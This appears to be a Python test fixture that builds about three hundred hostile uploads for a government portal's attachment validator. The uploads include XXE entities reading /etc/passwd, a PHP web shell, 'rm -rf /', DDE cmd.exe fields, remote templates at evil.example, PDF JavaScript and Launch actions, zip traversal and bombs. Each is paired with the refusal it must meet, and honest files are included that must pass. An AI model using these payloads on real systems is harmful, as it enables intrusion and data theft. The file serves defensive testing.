"""Three hundred hostile files, the same ones each time, and honest ones that must pass.

Each class of attack is written once, with the refusal it must meet, and repeated with another
size or place until there are three hundred. The refusal is the one a real request meets: Django
itself takes control characters out of names before anybody sees them.
"""

import io
import itertools
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import openpyxl

from emulation_portal.core.attachments import errors
from tests.factories.files import (
    RELATIONSHIPS,
    archive,
    docx,
    docx_linking_to,
    jpg,
    ole,
    pdf,
    png,
    png_chunk,
    xlsx,
)

NUMBER = 300
MEGABYTE = 1024 * 1024
EXCEL_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
Refusal = type[errors.UploadRefused]


@dataclass(frozen=True)
class Hostile:
    """A file as it is sent, and the refusal it must meet. `size` pads it with nothing, unstored."""

    label: str
    name: str
    content: bytes
    refusal: Refusal
    size: int = 0


_MAKERS: list[tuple[str, str, Refusal, Callable[[int], bytes]]] = []


def _simple(label: str, name: str, refusal: Refusal, make: Callable[[int], bytes]) -> None:
    """Register a class of hostile file; its maker gets the number of the repetition."""
    _MAKERS.append((label, name, refusal, make))


def workbook(parts: dict[str, bytes | str]) -> bytes:
    """Return a bare Excel file of `parts`."""
    return archive({"[Content_Types].xml": EXCEL_TYPES, "xl/workbook.xml": "<workbook/>", **parts})


def packed(inner: bytes, dictionary: bytes = b"/Type /ObjStm /N 1 /First 4") -> bytes:
    """Return an object of a PDF that holds `inner` packed."""
    squeezed = zlib.compress(inner, 9)
    return b"9 0 obj\n<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        dictionary, len(squeezed), squeezed,
    )  # fmt: skip


def _patched(content: bytes, *changes: tuple[bytes, int, str, int]) -> bytes:
    """Overwrite a number at an offset after the first occurrence of a signature."""
    patched = bytearray(content)
    for signature, offset, form, value in changes:
        struct.pack_into(form, patched, patched.find(signature) + offset, value)
    return bytes(patched)


def _with_entries(*entries: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    stream = io.BytesIO(docx())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as packed_file:
        for name, content in entries:
            packed_file.writestr(name, content)
    return stream.getvalue()


def _noise(number: int, size: int = 4000) -> bytes:
    return random.Random(number).randbytes(size)


def _symlink() -> zipfile.ZipInfo:
    link = zipfile.ZipInfo("word/link.bin")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    return link


def _png_of(
    width: int, height: int, data: bytes = b"\0\0", *extra: bytes, colour: int = 2
) -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, colour, 0, 0, 0))
        + b"".join(extra)
        + png_chunk(b"IDAT", zlib.compress(data, 9))
        + png_chunk(b"IEND", b"")
    )


def _jpg_of(width: int, height: int) -> bytes:
    return jpg().replace(
        struct.pack(">HBHHB", 11, 8, 1, 1, 1), struct.pack(">HBHHB", 11, 8, height, width, 1)
    )


def _jpg_comment(text: bytes) -> bytes:
    whole = jpg()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


def _nested(depth: int) -> bytes:
    content = docx({"word/media/0.bin": bytes(MEGABYTE)})
    for _ in range(depth):
        content = docx({"word/embeddings/x.docx": content})
    return content


# --- What is not what its name says ------------------------------------------------------------

for _label, _content in {
    "program": b"MZ\x90\0" + bytes(400),
    "linux program": b"\x7fELF\x02\x01\x01" + bytes(400),
    "page": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
    "drawing with script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>1</script></svg>",
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "rich text": b"{\\rtf1{\\object\\objdata 01050000}}",
    "old word": ole("WordDocument"),
    "old excel with macros": ole("_VBA_PROJECT"),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(200),
    "seven zip": b"7z\xbc\xaf\x27\x1c" + bytes(200),
    "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(200),
    "image file gif": b"GIF89a" + bytes(200),
    "nothing but zeros": bytes(5000),
    "json": b'{"kind": "plan"}',
    "eicar": b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
}.items():
    for _extension in ("pdf", "docx", "xlsx", "jpg", "png"):
        _refusal = errors.LiesAboutType
        _simple(f"{_label} as {_extension}", f"van-ban.{_extension}", _refusal,
                lambda n, content=_content: content + b"\0" * n)  # fmt: skip
for _extension in ("pdf", "docx", "xlsx", "jpg", "jpeg", "png"):
    _simple(f"noise as {_extension}", f"a.{_extension}", errors.LiesAboutType, _noise)
    _simple(f"empty {_extension}", f"rong.{_extension}", errors.NothingUploaded, lambda n: b"")
_simple("pdf as word", "a.docx", errors.LiesAboutType, lambda n: pdf())
_simple("word as excel", "a.xlsx", errors.LiesAboutType, lambda n: docx())
_simple("excel as word", "a.docx", errors.LiesAboutType, lambda n: xlsx())
_simple("archive as word", "a.docx", errors.LiesAboutType, lambda n: archive({"a.txt": "x" * n}))
_simple("png as jpg", "a.jpg", errors.LiesAboutType, lambda n: png())
_simple("jpg as png", "a.png", errors.LiesAboutType, lambda n: jpg())

# --- Names --------------------------------------------------------------------------------------

for _name in (
    "a.exe", "a.docm", "a.xlsm", "a.html", "a.svg", "a.zip", "a.doc", "khong-co-duoi", "a.pdf.exe",
    "a.pdf.", "a.pdf.js", "a.ｐｄｆ", "a.рdf", "ke\u202ehoach\u202cfdp.exe", "a.pdf\u200b.scr",
    ".pdf", "a.pdf:stream.exe", "a.PDF.HTA",
):  # fmt: skip
    _simple(f"name {_name!r}", _name, errors.TypeNotTaken, lambda n: pdf())
for _name in (
    "a.exe.pdf", "a.php.jpg", "a.HTML.pdf", "a.js .pdf", "cong-van.docm.docx", "a.php\0.pdf",
    "a.hta.xlsx", "a.exe.png", "a.sh.docx", "../../etc/cron.d/a.sh.pdf",
):  # fmt: skip
    _simple(f"name {_name!r}", _name, errors.DoubleExtension, lambda n: pdf())
_simple("name of 300 letters", "k" * 296 + ".pdf", errors.NameTooLong, lambda n: pdf())
_simple("name of 300 syllables", "kế hoạch " * 33 + ".pdf", errors.NameTooLong, lambda n: pdf())

# --- Bombs --------------------------------------------------------------------------------------

_simple("flat bomb", "a.docx", errors.Bomb,
        lambda n: docx({"word/media/1.bin": bytes((60 + n) * MEGABYTE)}))  # fmt: skip
_simple("flat bomb in a sheet", "a.xlsx", errors.Bomb,
        lambda n: workbook({"xl/worksheets/sheet1.xml": b"<a>" + b" " * ((60 + n) * MEGABYTE)}))  # fmt: skip
_simple("bomb in an embedded workbook", "a.docx", errors.Bomb, lambda n: docx(
        {"word/embeddings/x.docx": docx({"word/media/1.bin": bytes((60 + n) * MEGABYTE)})}))  # fmt: skip
_simple("bomb of many parts", "a.docx", errors.Bomb,
        lambda n: docx({f"word/media/{k}.bin": bytes(MEGABYTE) for k in range(60 + n)}))  # fmt: skip
_simple("four thousand entries", "a.docx", errors.Bomb,
        lambda n: docx({f"word/{k}.xml": "" for k in range(3100 + n)}))  # fmt: skip
_simple("a directory without end", "a.docx", errors.Bomb,
        lambda n: _patched(docx(), (b"PK\x05\x06", 12, "<L", 0x7FFFFFFF - n)))  # fmt: skip
_simple("sixty thousand entries announced", "a.docx", errors.Bomb,
        lambda n: _patched(docx(), (b"PK\x05\x06", 10, "<H", 60000 + n)))  # fmt: skip
_simple("nested twice", "a.docx", errors.HasPayload, lambda n: _nested(2 + n % 3))
_simple("packed pages that never end", "a.pdf", errors.Bomb,
        lambda n: pdf(packed(bytes((60 + n) * MEGABYTE), b"/Length1 1")))  # fmt: skip
_simple("packed objects that never end", "a.pdf", errors.Bomb,
        lambda n: pdf(packed(b" " * ((40 + n) * MEGABYTE))))  # fmt: skip
_simple("packed twice", "a.pdf", errors.Bomb, lambda n: pdf(
        packed(zlib.compress(b"x" * (n + 1))).replace(b"/FlateDecode", b"[/FlateDecode /FlateDecode]")))  # fmt: skip
_simple("picture of four thousand million dots", "a.png", errors.TooManyDots,
        lambda n: _png_of(65000 + n, 65000))  # fmt: skip
_simple("picture wider than the earth", "a.png", errors.TooManyDots,
        lambda n: _png_of(0x7FFFFFFF, 1 + n))  # fmt: skip
_simple("dense picture", "a.png", errors.Bomb, lambda n: _png_of(13000 + n, 13000))
_simple("photograph of four thousand million dots", "a.jpg", errors.TooManyDots,
        lambda n: _jpg_of(65500 + n % 30, 65500))  # fmt: skip
_simple("note that unpacks to megabytes", "a.png", errors.Bomb, lambda n: _png_of(1, 1, b"\0\0\0\0",
        png_chunk(b"zTXt", b"note\0\0" + zlib.compress(bytes((9 + n) * MEGABYTE)))))  # fmt: skip

# --- Entities, macros, payloads -----------------------------------------------------------------

_DOCTYPES = (
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/">]><x>&e;</x>',
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>',
    '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///dev/random">%p;]><x/>',
)
for _part in (
    "word/document.xml",
    "word/a.xml",
    "docProps/core.xml",
    "word/_rels/a.rels",
    "word/a.dat",
):
    _simple(f"entities in {_part}", "a.docx", errors.TwoFilesInOne, lambda n, part=_part: docx(
            {part: _DOCTYPES[n % len(_DOCTYPES)]}))  # fmt: skip
for _encoding in ("utf-16", "utf-16-le", "utf-16-be"):
    _simple(f"entities in {_encoding}", "a.docx", errors.TwoFilesInOne, lambda n, encoding=_encoding:
            docx({"word/a.xml": _DOCTYPES[n % len(_DOCTYPES)].encode(encoding)}))  # fmt: skip
_simple("entities far down", "a.docx", errors.TwoFilesInOne,
        lambda n: docx({"word/a.xml": " " * (65530 + n) + _DOCTYPES[0]}))  # fmt: skip
for _part in (
    "word/vbaProject.bin", "word/VBAPROJECT.BIN", "xl/macrosheets/sheet1.xml",
    "word/activeX/activeX1.xml", "word/vbaData.xml", "xl/dialogsheets/sheet1.xml",
):  # fmt: skip
    _simple(
        f"macro {_part}",
        "a.docx",
        errors.HasMacro,
        lambda n, part=_part: docx({part: "x" * (n + 1)}),
    )
_simple("macro by type", "a.docx", errors.HasMacro, lambda n: docx(extra_types=
        f'<Override PartName="/x{n}" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'))  # fmt: skip
_simple("macro by relationship", "a.docx", errors.HasMacro, lambda n: docx({"word/_rels/document.xml.rels":
        RELATIONSHIPS.format(f'<Relationship Id="r{n}" Type="urn:x/vbaProject" Target="p.dat"/>')}))  # fmt: skip
for _payload in ("Ole10Native", "_VBA_PROJECT"):
    _simple(f"object with {_payload}", "a.docx", errors.HasPayload, lambda n, payload=_payload:
            docx({f"word/embeddings/o{n}.bin": ole(payload)}))  # fmt: skip
for _label, _content in {
    "program": b"MZ\x90\0", "linux program": b"\x7fELF", "script": b"#!/bin/sh", "rar": b"Rar!\x1a\x07\0",
    "seven zip": b"7z\xbc\xaf\x27\x1c", "rich text": b"{\\rtf1", "shortcut": b"L\0\0\0\x01\x14\x02\0",
    "class": b"\xca\xfe\xba\xbe",
}.items():  # fmt: skip
    _simple(f"{_label} inside", "a.docx", errors.HasPayload, lambda n, content=_content:
            docx({f"word/media/image{n}.png": content + bytes(n)}))  # fmt: skip
for _part in ("word/a.html", "word/a.mht", "word/a.js", "word/a.hta", "word/webextensions/t.xml"):
    _simple(
        f"part {_part}", "a.docx", errors.HasPayload, lambda n, part=_part: docx({part: "x" * n})
    )
_simple("archive inside", "a.docx", errors.HasPayload,
        lambda n: docx({"word/x.docx": archive({f"a{n}.exe": "x"})}))  # fmt: skip
for _kind, _target in (
    ("attachedTemplate", "https://evil.example/t.dotm"), ("attachedTemplate", "\\\\evil\\t.dotm"),
    ("attachedTemplate", "mhtml:http://evil.example/x!x"), ("oleObject", "http://evil.example/"),
    ("frame", "http://evil.example/"), ("subDocument", "file:///C:/x.docx"),
    ("attachedTemplate", "file://evil/share/t.dotm"), ("externalLinkPath", "//evil/share/a.xlsx"),
):  # fmt: skip
    _simple(f"{_kind} {_target}", "a.docx", errors.HasPayload, lambda n, kind=_kind, target=_target:
            docx_linking_to(kind, target + "?" * n))  # fmt: skip
_simple("page put in when opened", "a.docx", errors.HasPayload, lambda n: docx({"word/_rels/document.xml.rels":
        RELATIONSHIPS.format(f'<Relationship Id="r{n}" Type="urn:x/aFChunk" Target="p.dat"/>')}))  # fmt: skip
for _label, _part, _xml in (
    ("dde link", "xl/externalLinks/externalLink1.xml", "<externalLink><ddeLink ddeService='cmd'/></externalLink>"),
    ("dde formula", "xl/worksheets/sheet1.xml", "<c><f>cmd|'/C calc'!A0</f></c>"),
    ("web query", "xl/connections.xml", "<connection><webPr url='http://evil.example/'/></connection>"),
    ("database query", "xl/connections.xml", "<connection><dbPr connection='DRIVER'/></connection>"),
    ("web formula", "xl/worksheets/sheet1.xml", "<c><f>WEBSERVICE(A1)</f></c>"),
):  # fmt: skip
    _simple(_label, "a.xlsx", errors.HasPayload, lambda n, part=_part, xml=_xml:
            workbook({part: xml + " " * n}))  # fmt: skip
_simple("workbook linked to a share", "a.xlsx", errors.HasPayload, lambda n: workbook(
        {"xl/externalLinks/_rels/externalLink1.xml.rels": RELATIONSHIPS.format(
            f'<Relationship Id="r{n}" Type="urn:x/externalLinkPath" Target="\\\\evil\\a.xlsx" TargetMode="External"/>')}))  # fmt: skip
_simple("dde field", "a.docx", errors.HasPayload, lambda n: docx(
        {"word/document.xml": "<w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText>" + " " * n}))  # fmt: skip
_simple("dde field in pieces", "a.docx", errors.HasPayload, lambda n: docx({"word/document.xml":
        "<w:instrText>DD</w:instrText>" + " " * (n * 9000) + "<w:instrText>EAUTO c:\\\\cmd</w:instrText>"}))  # fmt: skip
_simple("dde field in short", "a.docx", errors.HasPayload, lambda n: docx(
        {"word/document.xml": '<w:fldSimple w:instr="DDE cmd"/>' + " " * n}))  # fmt: skip

# --- Archives that lie --------------------------------------------------------------------------

for _entry in (
    "../../etc/passwd", "/etc/passwd", "..\\..\\windows\\a", "word/../../a", "C:/windows/a.txt",
    "word/a\u202etxt.xml", "word/a\x01.xml", "word\\document2.xml",
):  # fmt: skip
    _simple(
        f"entry {_entry!r}",
        "a.docx",
        errors.TwoFilesInOne,
        lambda n, entry=_entry: docx({entry: "x" * n}),
    )
_simple("doubled entry", "a.docx", errors.TwoFilesInOne,
        lambda n: _with_entries(("WORD/document.xml", b"<other/>" * (n + 1))))  # fmt: skip
_simple(
    "link as entry",
    "a.docx",
    errors.TwoFilesInOne,
    lambda n: _with_entries((_symlink(), b"/etc/passwd")),
)
_simple("data between entries and directory", "a.docx", errors.TwoFilesInOne,
        lambda n: docx().replace(b"PK\x01\x02", b"MZ hidden" + bytes(n) + b"PK\x01\x02", 1))  # fmt: skip
_simple("data after the archive", "a.docx", errors.Damaged, lambda n: docx() + b"MZ" + bytes(n))
_simple("deflate64", "a.docx", errors.TwoFilesInOne, lambda n: _patched(
        docx(), (b"PK\x03\x04", 8, "<H", 9), (b"PK\x01\x02", 10, "<H", 9)))  # fmt: skip
_simple("encrypted entry", "a.docx", errors.PasswordProtected, lambda n: _patched(
        docx({"word/a.xml": "x" * n}), (b"PK\x03\x04", 6, "<H", 1), (b"PK\x01\x02", 8, "<H", 1)))  # fmt: skip
_simple(
    "size told wrongly",
    "a.docx",
    errors.Damaged,
    lambda n: _patched(docx(), (b"PK\x01\x02", 24, "<L", 1)),
)
_simple(
    "checksum told wrongly",
    "a.docx",
    errors.Damaged,
    lambda n: _patched(docx(), (b"PK\x01\x02", 16, "<L", n)),
)
_simple("other name in the directory", "a.docx", errors.Damaged, lambda n: docx().replace(
        b"[Content_Types].xml", b"[Content_Typez].xml", 1))  # fmt: skip
_simple("64-bit sizes", "a.docx", errors.Bomb, lambda n: docx().replace(
        b"PK\x05\x06", b"PK\x06\x07" + bytes(16) + b"PK\x05\x06", 1))  # fmt: skip
_simple(
    "locked word", "a.docx", errors.PasswordProtected, lambda n: ole("EncryptedPackage") + bytes(n)
)
_simple(
    "locked excel", "a.xlsx", errors.PasswordProtected, lambda n: ole("EncryptedPackage") + bytes(n)
)
_simple("no parts behind the types", "a.xlsx", errors.Damaged,
        lambda n: archive({"[Content_Types].xml": EXCEL_TYPES + " " * n}))  # fmt: skip
_simple(
    "broken types",
    "a.docx",
    errors.Damaged,
    lambda n: archive({"[Content_Types].xml": "<T" * (n + 1)}),
)

# --- Two files in one, active pages, halves -----------------------------------------------------

for _make, _extension in ((pdf, "pdf"), (jpg, "jpg"), (png, "png")):
    _simple(f"{_extension} and archive", f"a.{_extension}", errors.TwoFilesInOne, lambda n, make=_make:
            make() + archive({"a.exe": "x" * n}))  # fmt: skip
    _simple(f"{_extension} and archive and a tail", f"a.{_extension}", errors.TwoFilesInOne,
            lambda n, make=_make: make() + archive({"a.exe": "x" * n}) + b"%%EOF")  # fmt: skip
    _simple(f"{_extension} and page", f"a.{_extension}", errors.TwoFilesInOne, lambda n, make=_make:
            make() + b"<html><script>1</script>" + bytes(n + 1) + b"x")  # fmt: skip
_simple("png and program", "a.png", errors.TwoFilesInOne, lambda n: png() + b"MZ" + bytes(n))
_simple("jpg and program", "a.jpg", errors.TwoFilesInOne, lambda n: jpg() + b"MZ" + bytes(n) + b"x")
_simple(
    "jpg with a page as note",
    "a.jpg",
    errors.TwoFilesInOne,
    lambda n: _jpg_comment(b"<?php " + bytes(n)),
)
_simple("png with a page as note", "a.png", errors.TwoFilesInOne, lambda n: _png_of(1, 1, b"\0\0\0\0",
        png_chunk(b"tEXt", b"note\0<script>" + bytes(n))))  # fmt: skip
_simple("png with a packed page as note", "a.png", errors.TwoFilesInOne, lambda n: _png_of(
        1, 1, b"\0\0\0\0", png_chunk(b"zTXt", b"note\0\0" + zlib.compress(b"<script>" + bytes(n)))))  # fmt: skip
_simple(
    "pdf that begins as a page",
    "a.pdf",
    errors.TwoFilesInOne,
    lambda n: pdf(b"%<html><script>1</script>"),
)
_simple("pdf after a page", "a.pdf", errors.LiesAboutType, lambda n: b"<html>" + bytes(n) + pdf())
_simple("pdf after a gif", "a.pdf", errors.LiesAboutType, lambda n: b"GIF89a" + bytes(n) + pdf())
for _label, _body in {
    "script": b"<< /S /JavaScript /JS (app.alert(1)) >>",
    "script with escapes": b"<< /S /J#61vaScr#69pt /J#53 (app.alert(1)) >>",
    "script by its short name": b"<< /JS (app.alert(1)) >>",
    "program": b"<< /S /Launch /F (cmd.exe) >>",
    "program with escapes": b"<< /S /#4caunch /F (cmd.exe) >>",
    "form that sends": b"<< /S /SubmitForm /F (http://evil.example) >>",
    "film": b"<< /Type /Annot /Subtype /RichMedia >>",
    "xfa": b"<< /AcroForm << /XFA 5 0 R >> >>",
    "packed script": packed(b"1 0 << /S /JavaScript /JS (1) >>"),
    "packed script by its short name": packed(b"1 0 << /JS (1) >>"),
    "packed program": packed(b"1 0 << /S /Launch >>"),
}.items():
    _simple(
        f"pdf with {_label}", "a.pdf", errors.ActivePdf, lambda n, body=_body: pdf(body + b" " * n)
    )
for _label, _body in {
    "file": b"<< /Type /Filespec /EF << /F 5 0 R >> >> << /Type /EmbeddedFile >>",
    "files by name": b"<< /Names << /EmbeddedFiles 5 0 R >> >>",
    "way into another file": b"<< /S /GoToE >>",
    "packed file": packed(b"1 0 << /Names << /EmbeddedFiles 5 0 R >> >>"),
}.items():
    _simple(
        f"pdf with {_label}", "a.pdf", errors.HasPayload, lambda n, body=_body: pdf(body + b" " * n)
    )
_simple("pdf with objects packed oddly", "a.pdf", errors.TwoFilesInOne, lambda n: pdf(packed(b"x" * (n + 1)).replace(
        b"/FlateDecode", b"/LZWDecode")))  # fmt: skip
_simple(
    "locked pdf",
    "a.pdf",
    errors.PasswordProtected,
    lambda n: pdf(b"<< /Encrypt %d 0 R >>" % (n + 1)),
)
_simple(
    "locked pdf in one piece",
    "a.pdf",
    errors.PasswordProtected,
    lambda n: pdf(b"<< /Encrypt << /V 4 >> >>"),
)
_simple("half a pdf", "a.pdf", errors.Damaged, lambda n: pdf(b"x" * n)[:-40])
_simple(
    "pdf without objects",
    "a.pdf",
    errors.Damaged,
    lambda n: b"%PDF-1.7\nstartxref\n9\n%%EOF" + b"\n" * n,
)
_simple("pdf whose table is nowhere", "a.pdf", errors.Damaged, lambda n: pdf(bytes(n)).replace(
        b"startxref\n9", b"startxref\n99999999"))  # fmt: skip
_simple("half a word file", "a.docx", errors.Damaged, lambda n: docx()[: 200 + n])
_simple("half an excel file", "a.xlsx", errors.Damaged, lambda n: xlsx()[: 900 + n])
_simple("half a png", "a.png", errors.Damaged, lambda n: png()[: -20 - n % 8])
_simple("png of wrong checksum", "a.png", errors.Damaged, lambda n: png()[:-1] + bytes([n % 100]))
_simple(
    "png without picture", "a.png", errors.Damaged, lambda n: png()[:8] + png_chunk(b"IEND", b"")
)
_simple("png of no size", "a.png", errors.Damaged, lambda n: _png_of(0, n))
_simple("half a jpg", "a.jpg", errors.Damaged, lambda n: jpg()[: 30 + n % 10])
_simple("jpg of no size", "a.jpg", errors.Damaged, lambda n: _jpg_of(0, 0))
_simple("jpg without end", "a.jpg", errors.Damaged, lambda n: jpg()[:-2])


def hostile_files(number: int = NUMBER) -> Iterator[Hostile]:
    """Yield `number` hostile files, each class in turn; 40 MB of nothing come first.

    Below the number of classes the classes are taken evenly from all over the list.
    """
    yield Hostile(
        "forty megabytes of nothing", "a.pdf", b"%PDF-1.7\n", errors.TooBig, 40 * MEGABYTE
    )
    yield Hostile("forty megabytes of nothing", "a.docx", b"", errors.TooBig, 40 * MEGABYTE)
    left = number - 2
    step = max(1, len(_MAKERS) // left)
    for place in itertools.islice(itertools.count(), left):
        repetition, index = divmod(place * step, len(_MAKERS))
        label, name, refusal, make = _MAKERS[index]
        yield Hostile(label, name, make(repetition), refusal)


# --- What must pass -----------------------------------------------------------------------------


def _workbook_of_figures() -> bytes:
    book = openpyxl.Workbook()
    for row in range(400):
        book.active.append([f"Chỉ tiêu {row}", row * 1.5, "=SUM(B1:B9)", "a|b", "Cục Di sản"])
    book.create_sheet("Phụ lục").append(['=CONCATENATE(A1,"|\'")'])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _phone_photograph(trailer: bytes) -> bytes:
    return jpg() + trailer


def honest_files() -> dict[str, tuple[str, bytes]]:
    """Return what officers really send, by label: (name, content)."""
    local = "file:///C:/Users/an/so-lieu.xlsx"
    return {
        "plain pdf": ("Kế hoạch số 15.KH-DSVH.pdf", pdf()),
        "pdf that opens at a page": ("a.pdf", pdf(b"<< /OpenAction [3 0 R /XYZ 0 0 0] >>")),
        "pdf with links": ("a.pdf", pdf(b"<< /S /URI /URI (https://bvhttdl.gov.vn) >>")),
        "pdf with packed objects": ("a.pdf", pdf(packed(b"1 0 << /Type /Page >>"))),
        "pdf with a large page": ("a.pdf", pdf(packed(_noise(1, 300_000).hex().encode(), b"/Length1 1"))),
        "signed pdf": ("đã ký.pdf", pdf() + b"2 0 obj\n<< /Type /Sig >>\nendobj\nstartxref\n9\n%%EOF\n"),
        "pdf with blank lines at its end": ("a.pdf", pdf() + b"\r\n\0\0"),
        "pdf with JS by chance in a picture": ("a.pdf", pdf(
            b"4 0 obj\n<< /Subtype /Image >>\nstream\n\x01/JS \x02\nendstream\nendobj\n")),
        "plain word": ("Kế hoạch.docx", docx()),
        "word with a chart": ("a.docx", docx({"word/embeddings/Microsoft_Excel_Sheet.xlsx": xlsx()})),
        "word with an equation": ("a.docx", docx({"word/embeddings/oleObject1.bin": ole("Equation Native")})),
        "word with a link": ("a.docx", docx_linking_to("hyperlink", "https://bvhttdl.gov.vn")),
        "word on its own template": ("a.docx", docx_linking_to("attachedTemplate", "file:///C:/Normal.dotm")),
        "word with a table of contents": ("a.docx", docx({"word/document.xml":
            '<w:document xmlns:w="urn:w"><w:instrText> TOC \\o "1-3" </w:instrText></w:document>'})),
        "word with a drawing": ("a.docx", docx({"word/media/image1.svg": "<svg xmlns='urn:s'/>"})),
        "plain excel": ("so-lieu.xlsx", xlsx()),
        "excel with formulas": ("so-lieu.xlsx", _workbook_of_figures()),
        "excel linked to a neighbour": ("a.xlsx", workbook({"xl/externalLinks/_rels/externalLink1.xml.rels":
            RELATIONSHIPS.format(f'<Relationship Id="r1" Type="urn:x/externalLinkPath" Target="{local}" TargetMode="External"/>')})),
        "photograph": ("ảnh.JPG", jpg()),
        "photograph with a small one behind": ("anh.jpeg", _phone_photograph(jpg())),
        "photograph with a film behind": ("anh.jpg", _phone_photograph(b"\0\0\0\x18ftypmp42" + bytes(50))),
        "photograph with zeros behind": ("anh.jpg", _phone_photograph(bytes(64))),
        "picture": ("a.png", png()),
        "scan of a sheet": ("a.png", _png_of(2480, 3508, bytes(2480 * 3 + 1) * 8)),
        "picture with a note": ("a.png", _png_of(1, 1, b"\0\0\0\0", png_chunk(b"tEXt", b"Software\0x"))),
    }  # fmt: skip


CLASSES = len(_MAKERS)
